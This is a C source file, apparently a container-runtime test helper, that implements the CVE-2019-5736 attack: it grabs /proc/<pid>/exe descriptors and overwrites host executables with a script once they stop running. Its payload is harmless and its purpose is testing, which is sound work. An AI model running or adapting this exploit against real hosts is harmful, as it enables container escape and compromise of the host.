/* wharf-exe-attacker: the CVE-2019-5736 attacker, run inside a test container. For SECONDS it
 * scans /proc for processes and opens each one's /proc/<pid>/exe read-only (what a container
 * can do with a process that enters it); it keeps the fd and, once nothing executes the file
 * any more (the write no longer fails with ETXTBSY), reopens it through /proc/self/fd/N for
 * writing and writes a script over it. The container's own executables (everything under
 * /bin) are left alone. When done it writes a report to OUTFILE:
 *   seen=<processes> opened=<exe fds obtained> written=<files overwritten> errnos=<a,b,...>
 * and creates OUTFILE.ready as soon as the first scan is done; it stops early once OUTFILE.stop
 * exists. Usage:
 *   wharf-exe-attacker SECONDS OUTFILE */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_TRACK 4096
#define MAX_SKIP 256

static struct { int fd; } tracked[MAX_TRACK];
static int ntracked;
static char seenPid[1 << 22];
static struct { dev_t dev; ino_t ino; } skip[MAX_SKIP];
static int nskip;
static int errnos[64], nerrnos;

static void noteErrno(int e) {
  for (int i = 0; i < nerrnos; ++i)
    if (errnos[i] == e) return;
  if (nerrnos < 64) errnos[nerrnos++] = e;
}

static int skipped(const struct stat* st) {
  for (int i = 0; i < nskip; ++i)
    if (skip[i].dev == st->st_dev && skip[i].ino == st->st_ino) return 1;
  return 0;
}

static void collectOwnExecutables(void) {
  DIR* d = opendir("/bin");
  struct dirent* e;
  char path[512];
  struct stat st;
  if (!d) return;
  while ((e = readdir(d)) && nskip < MAX_SKIP) {
    snprintf(path, sizeof path, "/bin/%s", e->d_name);
    if (stat(path, &st) == 0 && S_ISREG(st.st_mode) && !skipped(&st)) {
      skip[nskip].dev = st.st_dev;
      skip[nskip].ino = st.st_ino;
      ++nskip;
    }
  }
  closedir(d);
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  double until = now() + atof(argv[1]);
  const char* out = argv[2];
  const char payload[] = "#!/bin/sh\necho OWNED\n";
  int seen = 0, opened = 0, written = 0, first = 1;
  pid_t self = getpid();
  char stop[512];
  snprintf(stop, sizeof stop, "%s.stop", out);
  collectOwnExecutables();
  while (now() < until && access(stop, F_OK) != 0) {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d))) {
      long pid = strtol(e->d_name, NULL, 10);
      if (pid <= 0 || pid == self || pid >= (long)sizeof seenPid || seenPid[pid]) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%ld/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) {
        if (errno == ENOENT) continue;  /* a kernel thread or gone: look again later */
        noteErrno(errno);
        seenPid[pid] = 1;
        ++seen;
        continue;
      }
      struct stat st;
      if (fstat(fd, &st) == 0 && skipped(&st)) {
        close(fd);
        continue; /* our own /bin: a process that already exec'd; the pid may be reused */
      }
      seenPid[pid] = 1;
      ++seen;
      ++opened;
      if (ntracked < MAX_TRACK) tracked[ntracked++].fd = fd;
      else close(fd);
    }
    if (d) closedir(d);
    for (int i = 0; i < ntracked; ++i) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", tracked[i].fd);
      int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
      if (w < 0 && errno == ETXTBSY) continue; /* still running: try again */
      if (w < 0) {
        noteErrno(errno);
      } else {
        if (write(w, payload, sizeof payload - 1) > 0) ++written;
        close(w);
      }
      close(tracked[i].fd);
      tracked[i--] = tracked[--ntracked];
    }
    if (first) {
      char ready[512];
      snprintf(ready, sizeof ready, "%s.ready", out);
      close(open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
      first = 0;
    }
    usleep(200);
  }
  FILE* f = fopen(out, "w");
  if (!f) return 1;
  fprintf(f, "seen=%d opened=%d written=%d errnos=", seen, opened, written);
  for (int i = 0; i < nerrnos; ++i) fprintf(f, "%s%d", i ? "," : "", errnos[i]);
  fprintf(f, "\n");
  fclose(f);
  return 0;
}
